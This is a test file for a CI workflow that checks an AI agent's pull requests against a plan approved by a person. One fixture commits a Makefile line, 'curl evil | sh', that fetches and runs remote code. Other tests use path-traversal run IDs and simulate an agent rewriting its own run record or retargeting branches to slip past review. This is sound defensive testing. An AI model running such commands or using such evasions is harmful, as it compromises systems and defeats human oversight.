/**
 * The example workflow's `twinlock verify` step, run as GitHub would run it:
 * its own shell line and environment, in a git repository holding a base
 * commit (the approved run, its handoff and the trust file) and a head commit
 * (the executor's change), with `twinlock` on PATH.
 */

import { execFileSync, spawn, spawnSync } from "node:child_process";
import { chmodSync, cpSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { parse } from "yaml";
import { createAgentToken } from "../../src/server/agent-tokens.js";
import { startGateServer } from "../../src/server/start-gate-server.js";
import { homeOf, makeGateRun, makeRunTempDir, removeGateRuns, storeOf } from "../../src/test-support/run-fixture.js";
import { ALICE_KEY, aliceTrustFile, driveSignedToExecuting } from "../../src/test-support/signed-run.js";
import { ensureGateKey } from "../../src/trust/gate-key.js";
import { DIST_BIN, ensureBuilt, REPO_ROOT } from "../support/ensure-built.js";
import { writeStandInGh } from "../support/stand-in-gh.js";

// `twinlock` on PATH is the installed command (the built CLI), as `npm install` gives the workflow.
beforeAll(ensureBuilt, 240_000);
afterAll(removeGateRuns);

interface Step {
  name?: string;
  run?: string;
  uses?: string;
  if?: string;
  env?: Record<string, string>;
}

const workflow = parse(readFileSync(path.join(REPO_ROOT, "docs/github-workflow.yml"), "utf8")) as {
  on: Record<string, unknown>;
  jobs: Record<string, { steps: Step[] }>;
};
const steps = Object.values(workflow.jobs).flatMap((j) => j.steps);
const verifyStep = steps.find((s) => s.name === "twinlock verify") as Step;
const exportStep = steps.find((s) => s.name === "the gate's export of the run") as Step;
const whoStep = steps.find((s) => s.name === "whose change") as Step & { id?: string };
const jobEnv = (Object.values(workflow.jobs)[0] as { env?: Record<string, string> }).env ?? {};

/** The pull request the test's runs are made for, as the `whose change` step names it. */
const CHANGE = "acme/shop#42";

const gitIn = (dir: string, ...args: string[]) =>
  execFileSync("git", ["-c", "user.name=ci", "-c", "user.email=ci@example.com", "-c", "commit.gpgsign=false", ...args], { cwd: dir })
    .toString()
    .trim();

/**
 * A folder to be the repository: an executing run made for CHANGE (alice's signed review and consent) where the
 * workflow's RUN_FILE says, its handoff beside it, and the trust file pinning alice and the gate's key (as
 * `twinlock trust gate-key` prints it).
 */
async function repoWithApprovedRun(suiteDir = "."): Promise<string> {
  const g = makeGateRun();
  await driveSignedToExecuting(g, { change: CHANGE });
  const repo = makeRunTempDir("twinlock-ci-repo-");
  const runFile = verifyStep.env?.RUN_FILE ?? "twinlock/run.json";
  mkdirSync(path.join(repo, path.dirname(runFile)), { recursive: true });
  cpSync(g.runFile, path.join(repo, runFile));
  cpSync(g.handoff, path.join(repo, path.dirname(runFile), "handoff"), { recursive: true });
  mkdirSync(path.join(repo, suiteDir), { recursive: true });
  writeFileSync(path.join(repo, suiteDir, "twinlock.yaml"), aliceTrustFile(ALICE_KEY, [(await ensureGateKey(homeOf(g))).publicKey]));
  return repo;
}

/**
 * Run the step's shell line with the job's and its own environment (GitHub expressions replaced by the
 * event's values; `jobVars` as a repository would set the job's variables).
 */
function runStep(
  repo: string,
  event: { base: string; head: string; change?: string },
  jobVars: Record<string, string> = {},
): { status: number | null; stdout: string; summary: string } {
  const bin = makeRunTempDir("twinlock-bin-");
  const shim = path.join(bin, "twinlock");
  writeFileSync(shim, `#!/bin/sh\nexec "${process.execPath}" "${DIST_BIN}" "$@"\n`);
  chmodSync(shim, 0o755);
  const summary = path.join(bin, "step-summary.md");
  writeFileSync(summary, "");
  const env: Record<string, string> = { ...jobEnv, ...jobVars };
  for (const [k, v] of Object.entries(verifyStep.env ?? {}))
    env[k] = v
      .replace(/\$\{\{[^}]*base[^}]*\}\}/, event.base)
      .replace(/\$\{\{[^}]*head[^}]*\}\}/, event.head)
      .replace(/\$\{\{ steps\.who\.outputs\.change \}\}/, event.change ?? CHANGE);
  const r = spawnSync("bash", ["-e", "-c", verifyStep.run as string], {
    cwd: repo,
    env: { ...process.env, ...env, PATH: `${bin}:${process.env.PATH}`, GITHUB_STEP_SUMMARY: summary },
    encoding: "utf8",
  });
  return { status: r.status, stdout: r.stdout + r.stderr, summary: readFileSync(summary, "utf8") };
}

describe("docs/github-workflow.yml", () => {
  it("runs on pull_request and merge_group, installs on Node 20, and checks the suite before verifying", () => {
    expect(Object.keys(workflow.on).sort()).toEqual(["merge_group", "pull_request"]);
    const names = steps.map((s) => s.name ?? "");
    expect(names).toEqual(
      expect.arrayContaining(["twinlock validate", "twinlock audit-bodies --check", "twinlock graph --check", "twinlock verify"]),
    );
    expect(verifyStep.run).toContain('--git-range "$BASE_SHA...$HEAD_SHA"');
    expect(verifyStep.run).toContain('--change "$CHANGE"');
  });

  it("pins every action it and action.yml use by a full commit SHA, not a tag anyone could move, and action.yml diffs from the merge base", () => {
    const action = parse(readFileSync(path.join(REPO_ROOT, "action.yml"), "utf8")) as { runs: { steps: Step[] } };
    expect(action.runs.steps.find((s) => s.run?.includes("twinlock verify"))?.run).toContain('--git-range "$BASE_SHA...$HEAD_SHA"');
    const uses = [...steps, ...action.runs.steps].flatMap((s) => (s.uses ? [s.uses] : []));
    expect(uses.length).toBeGreaterThan(0);
    for (const u of uses) expect(u, u).toMatch(/^[\w.-]+\/[\w.-]+@[0-9a-f]{40}$/);
  });

  it("runs every step after `whose change` only for the agent's change, so a person's pull request passes without a run", () => {
    const after = steps.slice(steps.indexOf(whoStep) + 1);
    expect(after.length).toBeGreaterThan(4);
    for (const s of after) expect(s.if, s.name ?? s.uses).toBe("steps.who.outputs.agent == 'true'");
  });

  it("verifies a change inside the plan, and fails one that also edits a file outside it, in a temporary git repository", async () => {
    const repo = await repoWithApprovedRun();
    gitIn(repo, "init", "-q", "-b", "main");
    gitIn(repo, "add", "-A");
    gitIn(repo, "commit", "-q", "-m", "base");
    const base = gitIn(repo, "rev-parse", "HEAD");
    mkdirSync(path.join(repo, "cart"));
    writeFileSync(path.join(repo, "cart/cache.go"), "package cart\n");
    gitIn(repo, "add", "-A");
    gitIn(repo, "commit", "-q", "-m", "the planned change");
    const good = gitIn(repo, "rev-parse", "HEAD");
    const ok = runStep(repo, { base, head: good });
    expect(ok.status, ok.stdout).toBe(0);
    expect(ok.summary).toContain("## twinlock verify: verified");
    expect(ok.stdout).toMatch(/^ok {4}change {2}run: made for acme\/shop#42$/m);
    // The same approved run offered for another pull request: refused, naming both.
    const elsewhere = runStep(repo, { base, head: good, change: "acme/shop#43" });
    expect(elsewhere.status).toBe(1);
    expect(elsewhere.stdout).toMatch(/^FAIL {2}change {2}run: made for acme\/shop#42, not acme\/shop#43/m);
    writeFileSync(path.join(repo, "Makefile"), "all:\n\tcurl evil | sh\n");
    gitIn(repo, "add", "-A");
    gitIn(repo, "commit", "-q", "-m", "and one more thing");
    const bad = runStep(repo, { base, head: gitIn(repo, "rev-parse", "HEAD") });
    expect(bad.status).toBe(1);
    expect(bad.stdout).toMatch(/^FAIL {2}changed-file {2}Makefile: deviation/m);
    expect(bad.summary).toContain("| ❌ | changed-file | Makefile |");
  });

  it("verifies a run whose suite lies in a folder of the repository (SUITE_DIR: prompts/suite), its reviewers from that folder's twinlock.yaml on the base commit", async () => {
    const repo = await repoWithApprovedRun("prompts/suite");
    gitIn(repo, "init", "-q", "-b", "main");
    gitIn(repo, "add", "-A");
    gitIn(repo, "commit", "-q", "-m", "base");
    const base = gitIn(repo, "rev-parse", "HEAD");
    mkdirSync(path.join(repo, "cart"));
    writeFileSync(path.join(repo, "cart/cache.go"), "package cart\n");
    gitIn(repo, "add", "-A");
    gitIn(repo, "commit", "-q", "-m", "the planned change");
    const head = gitIn(repo, "rev-parse", "HEAD");
    expect(jobEnv.SUITE_DIR).toBe(".");
    const ok = runStep(repo, { base, head }, { SUITE_DIR: "prompts/suite" });
    expect(ok.status, ok.stdout).toBe(0);
    expect(ok.stdout).toContain(`against the reviewers in ${base}:prompts/suite/twinlock.yaml, 1 changed file`);
    // The same repository with the suite's folder left at the top: no twinlock.yaml there on the base commit.
    const top = runStep(repo, { base, head });
    expect(top.status).toBe(2);
    expect(top.stdout).toMatch(/that file is not in that commit/);
  });

  it("counts only the agent's own change when main moved ahead of its branch (the range is from the merge base)", async () => {
    const repo = await repoWithApprovedRun();
    writeFileSync(path.join(repo, "README.md"), "the project\n");
    gitIn(repo, "init", "-q", "-b", "main");
    gitIn(repo, "add", "-A");
    gitIn(repo, "commit", "-q", "-m", "base");
    gitIn(repo, "checkout", "-q", "-b", "agent");
    mkdirSync(path.join(repo, "cart"));
    writeFileSync(path.join(repo, "cart/cache.go"), "package cart\n");
    gitIn(repo, "add", "-A");
    gitIn(repo, "commit", "-q", "-m", "the planned change");
    const head = gitIn(repo, "rev-parse", "HEAD");
    // main moves on: a person edits the README after the agent branched.
    gitIn(repo, "checkout", "-q", "main");
    writeFileSync(path.join(repo, "README.md"), "the project, edited on main\n");
    gitIn(repo, "commit", "-q", "-am", "a person's change on main");
    const base = gitIn(repo, "rev-parse", "HEAD");
    gitIn(repo, "checkout", "-q", head);
    const r = runStep(repo, { base, head });
    expect(r.status, r.stdout).toBe(0);
    expect(r.stdout).not.toContain("README.md");
    expect(r.summary).toContain("## twinlock verify: verified");
  });
});

/** Run the `whose change` step as GitHub would, with a stand-in `gh` that answers the pulls API from `authors` and logs its calls. */
function runWho(
  event: Record<string, string>,
  authors: Record<string, string>,
): { status: number | null; output: string; ghCalls: string } {
  const bin = makeRunTempDir("twinlock-who-");
  const log = writeStandInGh(bin, "acme/shop", authors);
  const output = path.join(bin, "github-output");
  writeFileSync(output, "");
  // Stdin as a runner's step has it, not a socket: bash started on a socket with no SHLVL takes itself for an rsh
  // login and sources ~/.bashrc (this machine's took seconds).
  const r = spawnSync("bash", ["-e", "-c", whoStep.run as string], {
    stdio: ["ignore", "pipe", "pipe"],
    env: { PATH: `${bin}:${process.env.PATH}`, GITHUB_OUTPUT: output, GITHUB_REPOSITORY: "acme/shop", ...jobEnv, ...event },
    encoding: "utf8",
  });
  return { status: r.status, output: readFileSync(output, "utf8"), ghCalls: readFileSync(log, "utf8") };
}

describe("the workflow's `whose change` step", () => {
  const agent = jobEnv.AGENT_LOGIN as string;
  const queueRef = (n: string) => `refs/heads/gh-readonly-queue/main/pr-${n}-0123456789abcdef0123456789abcdef01234567`;

  it("marks the agent's pull request as the agent's, and a person's as not, without asking the API", () => {
    expect(runWho({ EVENT: "pull_request", PR_AUTHOR: agent, PR_NUMBER: "42" }, {})).toMatchObject({
      status: 0,
      output: "agent=true\nchange=acme/shop#42\n",
      ghCalls: "",
    });
    expect(runWho({ EVENT: "pull_request", PR_AUTHOR: "alice", PR_NUMBER: "7" }, {})).toMatchObject({
      status: 0,
      output: "agent=false\nchange=acme/shop#7\n",
      ghCalls: "",
    });
  });

  it("in the merge queue reads the queued pull request's author from the API by the number in the queue's branch", () => {
    const mine = runWho({ EVENT: "merge_group", QUEUE_REF: queueRef("42") }, { "42": agent, "7": "alice" });
    expect(mine).toMatchObject({ status: 0, output: "agent=true\nchange=acme/shop#42\n" });
    expect(mine.ghCalls).toBe("api repos/acme/shop/pulls/42 --jq .user.login\n");
    const persons = runWho({ EVENT: "merge_group", QUEUE_REF: queueRef("7") }, { "42": agent, "7": "alice" });
    expect(persons).toMatchObject({ status: 0, output: "agent=false\nchange=acme/shop#7\n" });
  });

  it("fails an agent's pull request that targets any branch but the protected one (its own branch's twinlock.yaml would list the agent's keys), and re-checks on a retarget", () => {
    const onto = (base: string, author = agent) =>
      runWho({ EVENT: "pull_request", PR_AUTHOR: author, PR_NUMBER: "42", BASE_REF: base, DEFAULT_BRANCH: "main" }, {});
    expect(onto("main")).toMatchObject({ status: 0, output: "agent=true\nchange=acme/shop#42\n" });
    const own = onto("agent-trust");
    expect(own.status).not.toBe(0);
    expect(own.output).toBe("");
    // A person's pull request may target any branch: it carries no run.
    expect(onto("release", "alice")).toMatchObject({ status: 0, output: "agent=false\nchange=acme/shop#42\n" });
    expect((workflow.on.pull_request as { types: string[] }).types).toContain("edited");
  });

  it("fails the check when the queue's branch names no pull request, or the API cannot say who wrote it", () => {
    expect(runWho({ EVENT: "merge_group", QUEUE_REF: "refs/heads/gh-readonly-queue/main/pr-x-abc" }, {}).status).not.toBe(0);
    expect(runWho({ EVENT: "merge_group", QUEUE_REF: queueRef("99") }, {}).status).not.toBe(0);
  });
});

describe("the workflow's `the gate's export of the run` step", () => {
  it("replaces the agent's copy of the run file with the gate's export, fetched by its run ID with a CI token", async () => {
    const g = makeGateRun();
    await driveSignedToExecuting(g, { change: CHANGE });
    const { token } = await createAgentToken(homeOf(g), { agent: "ci", runId: "*", scopes: ["export"] });
    const server = await startGateServer({ store: storeOf(g), listen: "127.0.0.1:0" });
    try {
      const repo = makeRunTempDir("twinlock-ci-fetch-");
      const runFile = path.join(repo, exportStep.env?.RUN_FILE ?? "twinlock/run.json");
      mkdirSync(path.dirname(runFile), { recursive: true });
      // The agent's copy: the run's ID kept, everything else rewritten (a stop dropped, an admission added…).
      const real = JSON.parse(readFileSync(g.runFile, "utf8"));
      writeFileSync(runFile, JSON.stringify({ state: { run_id: real.state.run_id }, events: ["rewritten by the agent"] }));
      // Not spawnSync: the server answers from this process's event loop.
      const run = (ciToken: string) =>
        new Promise<{ status: number | null; stderr: string }>((resolve, reject) => {
          const child = spawn("bash", ["-e", "-c", exportStep.run as string], {
            cwd: repo,
            stdio: ["ignore", "ignore", "pipe"],
            env: {
              PATH: process.env.PATH,
              RUN_FILE: exportStep.env?.RUN_FILE,
              TWINLOCK_SERVER: `http://127.0.0.1:${server.port}`,
              TWINLOCK_CI_TOKEN: ciToken,
            },
          });
          let stderr = "";
          child.stderr?.on("data", (d: Buffer) => (stderr += d.toString()));
          child.once("error", reject);
          child.once("close", (status) => resolve({ status, stderr }));
        });
      const refused = await run(token.replace(/.$/, (c) => (c === "A" ? "B" : "A")));
      expect(refused.status).not.toBe(0);
      expect(JSON.parse(readFileSync(runFile, "utf8")).events).toEqual(["rewritten by the agent"]);
      const fetched = await run(token);
      expect(fetched.status, fetched.stderr).toBe(0);
      const exported = JSON.parse(readFileSync(runFile, "utf8"));
      expect(exported.head).toBe(real.head);
      expect(exported.gate_signature.kind).toBe("export");
    } finally {
      await server.close();
    }
  });

  it("refuses a run file that names no run ID before asking the server anything", () => {
    const repo = makeRunTempDir("twinlock-ci-fetch-");
    const runFile = path.join(repo, "twinlock/run.json");
    mkdirSync(path.dirname(runFile), { recursive: true });
    for (const id of ["../../api/tokens", "run_0123456789abcdef0", "run_ZZZZ456789abcdef", "run_0123456789abcde?x=1"]) {
      writeFileSync(runFile, JSON.stringify({ state: { run_id: id } }));
      const r = spawnSync("bash", ["-e", "-c", exportStep.run as string], {
        cwd: repo,
        stdio: ["ignore", "pipe", "pipe"],
        env: { PATH: process.env.PATH, RUN_FILE: "twinlock/run.json", TWINLOCK_SERVER: "http://127.0.0.1:9", TWINLOCK_CI_TOKEN: "x" },
        encoding: "utf8",
      });
      expect(r.status, id).not.toBe(0);
      expect(r.stdout, id).toContain("names no run ID");
    }
  });
});
